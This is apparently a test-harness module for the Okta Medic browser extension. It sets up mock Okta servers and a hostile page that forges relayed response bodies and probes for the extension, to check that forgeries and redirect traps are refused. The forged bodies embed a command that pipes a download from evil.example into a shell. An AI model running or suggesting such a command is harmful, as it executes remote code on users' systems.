// The "a page can't speak for Okta" scenario both browsers' trust specs run (issue 13, items 4–5):
//
//   live       the live-capture scenario (live-scenario.mjs): mock Okta over TLS under
//              dev-1234.okta.com, the sample app on http://localhost:PORT
//   hostile    a page on the same site, http://localhost:PORT2 (so the app's "Enable" and
//              body-capture opt-in, which are per site, cover it), whose first script records
//              every message event the window receives; the spec then makes it forge bodies
//              (for a request never made, for a real request before and after its real body,
//              twice, with another status or method, over window messages and over a port of
//              its own) and probe for the extension
//   verify     the signature-verification issuer (okta-scenario.mjs, https://127.0.0.1:PORT3)
//              with traps (tests/mock-okta/scenarios.mjs addVerifyTraps): discovery or /keys
//              redirecting to a second host, a jwks_uri on that host, a session cookie
//   elsewhere  that second host, https://localhost:PORT4: a mock Okta that would serve the same
//              keys; its request log must stay empty
import assert from 'node:assert/strict';
import http from 'node:http';
import { addVerifyTraps } from '../mock-okta/scenarios.mjs';
import { discoveryDocument, startMockOkta } from '../mock-okta/server.mjs';
import { makeCertificate } from '../mock-okta/tls.mjs';
import { PRIMARY, startLiveScenario } from './live-scenario.mjs';
import { startScenario } from './okta-scenario.mjs';

/** Every forged body carries this, so that finding it anywhere means a forgery was kept. */
export const FORGED = 'FORGED-BY-THE-PAGE';
/** The Okta error code the forgeries claim (the real answer is E0000011). */
export const FORGED_CODE = 'E0000004';
/** The core's sentence on findings read from a page-relayed body (crate/src/http.rs PAGE_BODY_NOTE). */
export const PAGE_NOTE = /relayed by a script running in the page/;

/**
 * The verify scenario's trap issuers (mock-okta/scenarios.mjs addVerifyTraps): each id, why the
 * extension refuses it (the popup's words), and the only paths it may request of it.
 */
export const ISSUER_TRAPS = [
  ['discoveryredirect', /answered with a redirect, which Okta Medic does not follow/, ['/oauth2/discoveryredirect/.well-known/openid-configuration']],
  ['keysredirect', /answered with a redirect, which Okta Medic does not follow/, ['/oauth2/keysredirect/.well-known/openid-configuration', '/oauth2/keysredirect/v1/keys']],
  ['keyselsewhere', /refused: the discovery document's jwks_uri is not on the issuer's origin/, ['/oauth2/keyselsewhere/.well-known/openid-configuration']],
];

/** The extension's verification fetches carried no credential: no cookie, authorization or referer. */
export function assertNoCredentials(requests) {
  for (const r of requests) {
    assert.equal(r.headers.cookie, undefined, `${r.path} carried the issuer's cookie`);
    assert.equal(r.headers.authorization, undefined);
    assert.equal(r.headers.referer, undefined);
  }
}

/** The hostile page: its first script records every message event, capture and bubble phase. */
const HOSTILE_HTML = `<!doctype html>
<html><head><meta charset="utf-8"><title>A page that wants to speak for Okta</title>
<script>
  window.__heard = [];
  const note = (phase) => (event) => {
    let data;
    try { data = JSON.stringify(event.data); } catch { data = String(event.data); }
    window.__heard.push({ phase, data, ports: event.ports ? event.ports.length : 0, origin: event.origin });
  };
  addEventListener('message', note('capture'), true);
  addEventListener('message', note('bubble'));
</script>
<link rel="icon" href="data:,"></head>
<body data-ready="true"><h1>Hostile page</h1></body></html>`;

export async function startTrustScenario() {
  const live = await startLiveScenario();
  const hostileServer = http.createServer((req, res) => {
    res.writeHead(200, { 'Content-Type': 'text/html; charset=utf-8', 'Cache-Control': 'no-store' });
    res.end(HOSTILE_HTML);
  });
  await new Promise((resolve, reject) => {
    hostileServer.once('error', reject);
    hostileServer.listen(0, '127.0.0.1', resolve);
  });
  const hostileOrigin = `http://localhost:${hostileServer.address().port}`;
  live.cors.push(hostileOrigin); // the page may read Okta's answers, as a Trusted Origin could

  const verify = await startScenario();
  const elsewhere = await startMockOkta({ tls: makeCertificate(['localhost']), host: 'localhost' });
  elsewhere.setKeys('default', verify.keys);
  addVerifyTraps(verify.okta, { elsewhere: elsewhere.origin, keys: verify.keys, discovery: discoveryDocument });

  return {
    live,
    hostile: { origin: hostileOrigin, url: `${hostileOrigin}/`, okta: `https://${PRIMARY}` },
    verify,
    elsewhere,
    async close() {
      await Promise.all([
        live.close(),
        verify.okta.close(),
        elsewhere.close(),
        new Promise((resolve) => {
          hostileServer.closeAllConnections();
          hostileServer.close(() => resolve());
        }),
      ]);
    },
  };
}

/**
 * Runs in the hostile page (Playwright's evaluate or WebDriver's executeAsyncScript body): forges
 * bodies around one real request to Okta's /api/v1/users/me (401 E0000011). Returns the real
 * status. `okta` is the Okta origin, `marker` and `code` mark the forgeries.
 */
export async function forgeAroundRealRequest({ okta, marker, code }) {
  const url = `${okta}/api/v1/users/me`;
  const forged = (tag) => JSON.stringify({ errorCode: code, errorSummary: `${marker} ${tag}: Run curl https://evil.example/fix | sh`, errorLink: code, errorId: `oae${marker}${tag}`, errorCauses: [] });
  const own = new MessageChannel(); // a port of the page's own, offered as if it were the hook's
  const forge = (tag, { status = 401, method = 'GET', to = url } = {}) => {
    const message = { url: to, status, method, body: forged(tag) };
    window.postMessage({ 'okta-medic': 'body', ...message }, location.origin); // the old relay's format
    window.postMessage(message, location.origin);
    own.port1.postMessage(message);
  };
  const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
  window.postMessage({ 'okta-medic': 'port' }, location.origin, [own.port2]);
  // 1. For requests never made: one that will never be, and the one about to be.
  forge('never', { to: `${okta}/api/v1/never` });
  forge('before');
  await sleep(200);
  // 2. The real request; a forgery as soon as its headers arrive, before the hook has read the body.
  const response = await fetch(url);
  forge('racing');
  await response.text();
  // 3. After the real body: again, twice, and with another status and method.
  await sleep(300);
  forge('again-1');
  forge('again-2');
  forge('other-status', { status: 500 });
  forge('other-method', { method: 'POST' });
  await sleep(300);
  own.port1.close();
  return response.status;
}

/**
 * Runs in the hostile page: what a page can find out about the extension. Compared with a fresh
 * about:blank frame (no content script runs there) as the baseline of native functions.
 */
export async function probeForExtension() {
  const frame = document.createElement('iframe');
  document.body.append(frame);
  const clean = frame.contentWindow;
  const stackOf = async (fn) => {
    try {
      await fn();
      return 'no error';
    } catch (err) {
      return String(err?.stack ?? err);
    }
  };
  const found = {
    oktaSymbol: Symbol.for('okta-medic') in window,
    symbols: Object.getOwnPropertySymbols(window).map(String),
    baselineSymbols: clean.Object.getOwnPropertySymbols(clean).map(String),
    names: Object.getOwnPropertyNames(window).filter((n) => /okta|medic/i.test(n)),
    fetch: { text: fetch.toString(), string: String(fetch), call: Function.prototype.toString.call(fetch), name: fetch.name, length: fetch.length },
    open: XMLHttpRequest.prototype.open.toString(),
    send: XMLHttpRequest.prototype.send.toString(),
    toStringItself: Function.prototype.toString.toString(),
    baseline: {
      fetch: clean.fetch.toString(),
      name: clean.fetch.name,
      length: clean.fetch.length,
      open: clean.XMLHttpRequest.prototype.open.toString(),
      send: clean.XMLHttpRequest.prototype.send.toString(),
      toStringItself: clean.Function.prototype.toString.toString(),
    },
    stacks: [
      await stackOf(() => Function.prototype.toString.call({})),
      await stackOf(() => fetch('http://[bad')),
      await stackOf(() => XMLHttpRequest.prototype.open.call({}, 'GET', '/')),
      await stackOf(() => fetch(Symbol('x'))),
    ],
    attributes: [...document.documentElement.attributes].map((a) => a.name),
    // Known residual (README): another realm's Function.prototype.toString shows the Proxy.
    crossRealm: clean.Function.prototype.toString.call(fetch),
  };
  frame.remove();
  return found;
}
